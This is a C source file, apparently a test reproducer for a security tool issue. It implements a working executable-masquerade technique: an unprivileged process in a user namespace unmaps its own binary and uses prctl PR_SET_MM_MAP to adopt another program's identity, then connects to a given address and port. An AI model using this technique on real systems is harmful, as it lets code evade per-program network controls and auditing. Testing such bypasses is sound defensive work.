// SPDX-License-Identifier: MIT
/*
 * The attack of issue 8: an unprivileged process takes another program's identity. It
 * enters a new user namespace (where it holds CAP_CHECKPOINT_RESTORE), unmaps its own
 * executable and sets mm->exe_file to the target with prctl(PR_SET_MM, PR_SET_MM_MAP),
 * then connects. This code lives in a shared library so that it keeps running after the
 * executable's own mappings are gone (sgmasq.c only calls in and never returns).
 *
 * Prints one JSON line: {"ok","errno","err","step","pid","exe"} where exe is what
 * /proc/self/exe says after the swap.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void report(int ok, int err, const char *step, const char *exe)
{
	char line[768];
	int n = snprintf(line, sizeof(line), "{\"ok\":%s,\"errno\":%d,\"err\":\"%s\",\"step\":\"%s\",\"pid\":%d,\"exe\":\"%s\"}\n",
			 ok ? "true" : "false", err, err ? strerrorname_np(err) : "", step, getpid(), exe);

	if (write(1, line, (size_t)n) < 0)
		_exit(3);
	_exit(ok ? 0 : 1);
}

static ssize_t slurp(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t got = 0, n;

	if (fd < 0)
		return -1;
	while ((n = read(fd, buf + got, size - 1 - (size_t)got)) > 0)
		got += n;
	close(fd);
	buf[got] = 0;
	return got;
}

/* /proc/self/stat fields 26..28 and 45..51 (1-based), after the ")" of comm. */
static int mm_map_of_self(struct prctl_mm_map *m)
{
	static char stat[4096];
	unsigned long long f[53] = { 0 };
	char *p;
	int i;

	if (slurp("/proc/self/stat", stat, sizeof(stat)) <= 0 || !(p = strrchr(stat, ')')))
		return -1;
	p += 2;
	for (i = 3; i <= 52 && *p; i++) {
		char *end;

		if (i == 3) { /* state is a letter */
			p += 2;
			continue;
		}
		f[i] = strtoull(p, &end, 10);
		p = *end ? end + 1 : end;
	}
	memset(m, 0, sizeof(*m));
	m->start_code = f[26];
	m->end_code = f[27];
	m->start_stack = f[28];
	m->start_data = f[45];
	m->end_data = f[46];
	m->start_brk = f[47];
	m->arg_start = f[48];
	m->arg_end = f[49];
	m->env_start = f[50];
	m->env_end = f[51];
	m->brk = (unsigned long long)(unsigned long)sbrk(0);
	if (m->brk < m->start_brk)
		m->brk = m->start_brk;
	return 0;
}

/* Unmaps every mapping of the file /proc/self/exe names. */
static int unmap_exe(const char *exe)
{
	static char maps[1 << 16];
	char *line, *save = NULL;

	if (slurp("/proc/self/maps", maps, sizeof(maps)) <= 0)
		return -1;
	for (line = strtok_r(maps, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		unsigned long lo, hi;
		char *path = strchr(line, '/');

		if (!path || strcmp(path, exe) != 0 || sscanf(line, "%lx-%lx", &lo, &hi) != 2)
			continue;
		if (munmap((void *)lo, hi - lo) != 0)
			return -1;
	}
	return 0;
}

int sgmasq_run(int argc, char **argv)
{
	static char self[512], after[512];
	struct prctl_mm_map map;
	struct sockaddr_storage ss = { 0 };
	socklen_t len;
	int target, fd, port;

	if (argc != 5) {
		fprintf(stderr, "usage: %s TARGET_EXE tcp4|tcp6 ADDR PORT\n", argv[0]);
		_exit(2);
	}
	port = atoi(argv[4]);
	if (strcmp(argv[2], "tcp4") == 0) {
		struct sockaddr_in *a = (struct sockaddr_in *)&ss;

		a->sin_family = AF_INET;
		a->sin_port = htons((unsigned short)port);
		if (inet_pton(AF_INET, argv[3], &a->sin_addr) != 1)
			report(0, EINVAL, "args", "");
		len = sizeof(*a);
	} else {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;

		a->sin6_family = AF_INET6;
		a->sin6_port = htons((unsigned short)port);
		if (inet_pton(AF_INET6, argv[3], &a->sin6_addr) != 1)
			report(0, EINVAL, "args", "");
		len = sizeof(*a);
	}
	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		report(0, errno, "readlink", "");
	target = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (target < 0)
		report(0, errno, "open-target", self);
	if (unshare(CLONE_NEWUSER) != 0)
		report(0, errno, "unshare", self);
	if (mm_map_of_self(&map) != 0)
		report(0, EIO, "stat", self);
	map.exe_fd = (unsigned int)target;
	if (unmap_exe(self) != 0)
		report(0, errno, "munmap", self);
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&map, sizeof(map), 0) != 0)
		report(0, errno, "prctl", self);
	if (readlink("/proc/self/exe", after, sizeof(after) - 1) < 0)
		report(0, errno, "readlink", "");
	fd = socket(ss.ss_family, SOCK_STREAM, 0);
	if (fd < 0)
		report(0, errno, "socket", after);
	if (connect(fd, (struct sockaddr *)&ss, len) != 0)
		report(0, errno, "connect", after);
	report(1, 0, "connect", after);
	return 0;
}
